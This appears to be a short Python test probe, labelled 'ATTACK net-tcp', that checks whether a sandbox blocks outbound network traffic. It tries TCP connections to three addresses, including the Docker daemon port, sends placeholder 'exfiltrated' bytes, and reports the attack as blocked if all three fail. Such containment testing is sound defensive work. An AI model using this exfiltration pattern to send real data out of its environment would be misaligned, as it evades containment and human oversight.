# ATTACK net-tcp: send the training data to a collector.
import socket as _socket

_errors = []
for _addr in (("1.1.1.1", 443), ("172.17.0.1", 2375), ("10.0.0.1", 80)):
    try:
        _s = _socket.create_connection(_addr, timeout=3)
        _s.sendall(b"exfiltrated")
        _s.close()
    except OSError as _exc:
        _errors.append(f"{_addr[0]}:{_addr[1]}: {_exc}")
if len(_errors) == 3:
    raise SystemExit(f"ATTACK net-tcp blocked: {'; '.join(_errors)}")
